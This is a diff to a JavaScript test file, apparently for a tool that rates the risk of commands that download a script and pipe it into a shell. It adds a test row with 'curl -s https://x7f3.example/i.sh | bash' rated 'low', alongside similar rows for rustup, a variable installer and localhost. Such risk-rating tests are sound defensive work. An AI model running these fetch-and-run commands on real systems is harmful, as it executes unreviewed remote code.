@@ -97,6 +97,7 @@ describe('a download that is run', () => {
 
   it.each([
     ['known-source', 'curl --proto "=https" -sSf https://sh.rustup.rs | sh', 'low'],
+    ['example-name', 'curl -s https://x7f3.example/i.sh | bash', 'low'],
     ['stand-in', 'curl -fsSL "$INSTALLER" | sh', 'medium'],
     ['own-machine', 'curl -s http://localhost:3000/i | sh', 'info'],
   ])('is lowered by what a table knows of its address: %s', (id, command, level) => {
